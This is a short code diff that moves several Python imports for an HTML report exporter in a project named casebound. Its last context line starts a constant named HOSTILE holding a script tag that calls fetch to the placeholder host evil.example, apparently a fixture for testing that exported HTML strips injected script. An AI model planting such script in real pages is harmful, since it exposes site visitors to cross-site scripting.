@@ -12,10 +12,10 @@ from bs4 import BeautifulSoup
 from matplotlib.font_manager import FontProperties
 from matplotlib.textpath import text_to_path
 
-from casebound.binding import drawings
-from casebound.binding.blocks import Figure
-from casebound.binding.html import ReportHTMLExporter
 from casebound.pages.style import styled
+from casebound.report.document.model import Figure
+from casebound.report.html import drawings
+from casebound.report.html.exporter import ReportHTMLExporter
 
 HOSTILE = """\
 # A <script>fetch("https://evil.example/a")</script>
